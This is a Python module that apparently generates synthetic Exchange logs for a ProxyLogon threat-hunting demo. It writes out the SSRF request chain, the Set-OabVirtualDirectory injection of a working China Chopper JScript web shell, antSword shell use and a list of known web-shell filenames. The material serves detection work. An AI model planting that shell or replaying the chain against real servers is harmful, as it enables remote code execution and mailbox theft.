"""What happened on each demo host besides ordinary use (ProxyLogon, March 2021).

The EXCH01 chain mirrors the HelseCERT rows (detections.md §2.1 PL-SSRF-2, PL-27065-*):
SSRF via ``/ecp/y.js`` to Autodiscover, MAPI, ``proxyLogon.ecp`` (241) and the ECP DDI
service, the ``Set-OabVirtualDirectory`` China Chopper ``ExternalUrl`` and the reset that
wrote ``discover.aspx``, then web-shell use. Each scenario returns the :class:`Quirks`
of its host's files.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from exhunt.demo.formats import BackEnd, HttpErr
from exhunt.demo.traffic import (
    ADMIN,
    ADMIN_WORKSTATION,
    BROWSERS,
    CHROME,
    DOMAIN,
    OUTLOOK,
    USERS,
    Traffic,
    admin_session,
    mailbox_guid,
)

PYTHON_REQUESTS = "python-requests/2.25.1"
EWS_CLIENT = "ExchangeServicesClient/0.0.0.0"
NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
CRAWLER = "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)"
SHELL_KEY = "orange2021"
HUNTED_SHELLS = (
    "errorFS.aspx", "OutlookEN.aspx", "ErrorAA.aspx", "zntwv.aspx", "getpp.aspx", "Err0r.aspx", "shel.aspx",
    "one.aspx", "authhead.aspx", "bob.aspx", "RedirSuiteServerProxy.aspx", "shel2.aspx", "shel90.aspx",
    "log.aspx", "logg.aspx", "fatal-erro.aspx", "OutlookZH.aspx", "8Lw7tAhF9i1pJnRo.aspx", "errorEE.aspx",
    "web.aspx",
)


@dataclass(frozen=True, slots=True)
class Quirks:
    """File-level oddities of a host's logs that readers must survive."""

    #: Start every HttpProxy file with the plain column-name line before the ``#`` block.
    bare_header: bool = False
    #: ``YYMMDD`` of the W3SVC1 file that begins with a UTF-8 BOM.
    iis_bom_day: str | None = None
    #: IIS restarted here: the W3SVC1 file of that day repeats its directives before the next line.
    iis_restart: datetime | None = None


def _at(day: int, hour: int, minute: int, second: int, millis: int = 0) -> datetime:
    return datetime(2021, 3, day, hour, minute, second, millis * 1000, tzinfo=UTC)


def _ssrf(
    t: Traffic, moment: datetime, client: str, stem: str, path: str, status: int, ua: str,
    latency_ms: int | None = None,
) -> None:
    """A CVE-2021-26855 request: ``stem`` on the front end, ``path`` on the back end via ``X-BEResource``.

    Statuses of 500 and above mean the back end was never reached (no W3SVC2 line).
    """
    back_stem, _, back_query = path.partition("?")
    reached = status < 500
    backend = BackEnd(back_stem, back_query, f"{DOMAIN}\\{t.server.name}$", status) if reached else None
    t.add(moment, client, "POST", stem, status, ua=ua, protocol=stem.split("/")[1].capitalize(),
          anchor=f"ServerInfo~a]@{t.server.fqdn}:444{path}#", routing_hint="X-BEResource-Cookie",
          target_server=t.server.fqdn, backend=backend, latency_ms=latency_ms)


def _nmap_check(t: Traffic, moment: datetime) -> None:
    """Microsoft's ``http-vuln-cve2021-26855`` nmap script run by the admin (detections.md PL-SCAN-1)."""
    t.add(moment, ADMIN_WORKSTATION, "GET", "/owa/auth/x.js", 500, ua=NMAP, protocol="Owa",
          anchor="ServerInfo~localhost/ecp/default.flt?", routing_hint="X-AnonResource-Backend-Cookie",
          target_server="localhost")


def _oab_vdir(t: Traffic) -> str:
    return f"{t.server.name}\\OAB (Default Web Site)"


def exch01(t: Traffic) -> Quirks:
    """Compromised: full HAFNIUM chain from 203.0.113.45, OAB web shell written and used."""
    attacker, fqdn, session, canary = "203.0.113.45", t.server.fqdn, t.guid(), t.canary()
    ddi = "/ecp/DDI/DDIService.svc"
    # A MAPI request whose ClientRequestId holds a comma (two header values joined), so it is CSV-quoted.
    mailbox, connection = mailbox_guid("bob"), t.guid()
    t.add(_at(2, 8, 14, 3, 87), "10.0.6.22", "POST", "/mapi/emsmdb/", 200, ua=OUTLOOK, protocol="Mapi",
          auth_type="Negotiate", query=f"MailboxId={mailbox}@contoso.com",
          client_request_id=f"R:{connection}:7;RT:Execute;CI:{connection}:1;CID:{t.guid()},{t.guid()}",
          **t.signed_in("bob", _at(2, 8, 14, 3), f"MailboxGuid~{mailbox}", "MailboxGuidWithDomain"))
    _ssrf(t, _at(3, 6, 41, 10, 532), attacker, "/owa/auth/Current/themes/resources/logon.css",
          "/autodiscover/autodiscover.xml?", 200, CRAWLER)
    # (end time, back-end path, status, latency): latencies cover the ECP rows each request caused.
    chain = (
        (_at(3, 6, 49, 42, 162), "/autodiscover/autodiscover.xml?", 200, 41),
        (_at(3, 6, 49, 43, 699), "/mapi/emsmdb/?", 200, 63),
        (_at(3, 6, 49, 46, 210), "/ecp/proxyLogon.ecp?", 241, 92),
        (_at(3, 6, 49, 51, 543), f"{ddi}/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200, 205),
        (_at(3, 6, 49, 53, 851), f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200, 118),
        (_at(3, 6, 50, 8, 470), f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory", 200,
         10251),
    )
    for moment, path, status, latency in chain:
        ua = EWS_CLIENT if "autodiscover" in path else PYTHON_REQUESTS
        _ssrf(t, moment, attacker, "/ecp/y.js", path, status, ua, latency)
    vdir, get_url = t.guid(), f"{ddi}/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory"
    set_url = get_url.replace("GetObject", "SetObject")
    reset_url = set_url.replace("=OAB", "=ResetOAB")
    script = (
        '<script language="JScript" runat="server">function Page_Load(){eval(Request["'
        + SHELL_KEY + '"],"unsafe");}</script>'
    )
    missing = (
        f"Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on "
        f"DC01.contoso.local. The object 'CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={t.server.name},"
        "CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,"
        "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local' does not exist."
        "\\r\\n\\r\\nThe object does not exist.\\r\\n"
    )
    ecp_rows = (
        (_at(3, 6, 49, 51, 389), "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", get_url, ""),
        (_at(3, 6, 49, 53, 772), f"Set-OabVirtualDirectory.ExternalUrl='http://f/{script}'.Identity='{vdir}'",
         set_url, ""),
        (_at(3, 6, 49, 53, 834), f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{vdir}'", set_url, ""),
        (_at(3, 6, 49, 58, 284), f"Get-OABVirtualDirectory.Identity='{vdir}'", reset_url, ""),
        (_at(3, 6, 49, 58, 420), f"Get-ExchangeServer.Identity='{t.server.name}'", reset_url, ""),
        (_at(3, 6, 49, 58, 835), f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{vdir}'", reset_url, missing),
        (_at(3, 6, 50, 0, 717), f"Remove-OABVirtualDirectory.Force=$true.Identity='{_oab_vdir(t)}'", reset_url, ""),
        (_at(3, 6, 50, 8, 396),
         f"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{t.server.name}'.Role='ClientAccess'"
         f".InternalURL='https://{fqdn}/OAB'.Path='{t.server.exchange_dir}\\FrontEnd\\HttpProxy\\OAB'", reset_url, ""),
        (_at(3, 6, 50, 8, 441), f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{_oab_vdir(t)}'",
         reset_url, ""),
    )
    for moment, cmd, url, exception in ecp_rows:
        t.ecp(moment, session, ADMIN, cmd, url, exception)
    t.evidence.oab.append((_at(3, 6, 50, 11, 904), "Download failed and temporary file "
                           "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed."))
    shell_uses = (_at(3, 7, 2, 15), _at(3, 7, 3, 2), _at(3, 7, 4, 40), _at(4, 21, 15, 9), _at(4, 21, 16, 51),
                  _at(6, 22, 41, 30))
    for number, moment in enumerate(shell_uses):
        ua = "antSword/v2.1" if number < 3 else CHROME
        t.add(moment, attacker, "POST", "/aspnet_client/discover.aspx", 200, ua=ua, protocol=None)
    old_chrome = CHROME.replace("88.0.4324.190", "65.0.2345")
    for moment in (_at(5, 3, 6, 27, 696), _at(5, 8, 11, 58, 846)):
        t.add(moment, attacker, "GET", "/owa/auth/RedirSuiteServerProxy.aspx", 200, ua=old_chrome, protocol="Owa")
    return Quirks(bare_header=True, iis_restart=_at(4, 19, 30, 0))


def exch02(t: Traffic) -> Quirks:
    """Probed: SSRF that never got past Autodiscover, the nmap checker, and a web-shell hunt (all 302)."""
    moment = _at(3, 14, 22, 5, 318)
    for ua in (EWS_CLIENT, PYTHON_REQUESTS, PYTHON_REQUESTS):
        _ssrf(t, moment, "198.51.100.7", "/ecp/y.js", "/autodiscover/autodiscover.xml?", 500, ua)
        moment = t.later(moment, 800, 2500)
    _nmap_check(t, _at(4, 10, 15, 31, 204))
    moment = _at(6, 17, 27, 44, 124)
    hunter_ua = CHROME.replace("88.0.4324.190", "88.0.4324.182")
    for name in HUNTED_SHELLS:
        t.add(moment, "198.51.100.23", "GET", f"/owa/auth/{name}", 302, ua=hunter_ua, protocol="Owa")
        moment = t.later(moment, 1500, 5500)
    return Quirks()


def exch03(t: Traffic) -> Quirks:
    """Clean (patched): an admin OAB URL change, OAB temp downloads, Autodiscover v2, the nmap checker."""
    vdir = t.guid()
    admin_session(t, _at(2, 10, 41, 2), (
        ("GetObject", f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{vdir}'"),
        ("SetObject", f"Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='{vdir}'"),
    ))
    temp = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp"
    for day in (2, 5, 7):
        moment = _at(day, 2, 11, 40, 512)
        path = f"{temp}\\{t.guid()}\\LZX-{t.guid()}-{t.rng.randint(1, 90)}.lzx"
        t.evidence.oab.append((moment, f"Download failed and temporary file '{path}' needs to be removed."))
    for index, user in enumerate(USERS[:4]):
        t.add(_at(4, 9, 5 + index, 12, 40 * index), f"10.0.6.{21 + index}", "GET",
              f"/autodiscover/autodiscover.json/v1.0/{user}@contoso.com", 200, ua=OUTLOOK,
              protocol="Autodiscover", query="Protocol=AutodiscoverV1", url_host="autodiscover.contoso.com",
              anchor=f"Smtp~{user}@contoso.com", routing_hint="Smtp-UserPrincipalName", proxy=True)
    _nmap_check(t, _at(8, 9, 3, 11, 570))
    t.add(_at(5, 11, 20, 4, 231), "10.0.6.23", "GET", "/owa/auth/RedirSuiteServiceProxy.aspx", 200,
          ua=BROWSERS[2], protocol="Owa", auth_type="FBA")
    return Quirks()


def exch04(t: Traffic) -> Quirks:
    """Exploited: SSRF to EWS from 192.0.2.77 (mailbox read), no web shell."""
    moment = _at(2, 21, 7, 15, 93)
    for _ in range(6):
        _ssrf(t, moment, "192.0.2.77", "/ecp/x.js", "/EWS/Exchange.asmx?", 200, PYTHON_REQUESTS)
        moment += timedelta(seconds=t.rng.randint(100, 120))
    for day in (1, 3, 6):
        moment = _at(day, 11, t.rng.randint(0, 59), t.rng.randint(0, 59))
        t.evidence.httperr.append(HttpErr(moment, f"192.0.2.{201 + day}", t.rng.randint(49152, 65535),
                                          t.server.ip, "Timer_ConnectionIdle"))
    return Quirks(iis_bom_day="210301")


SCENARIOS: dict[str, Callable[[Traffic], Quirks]] = {
    "EXCH01": exch01, "EXCH02": exch02, "EXCH03": exch03, "EXCH04": exch04,
}
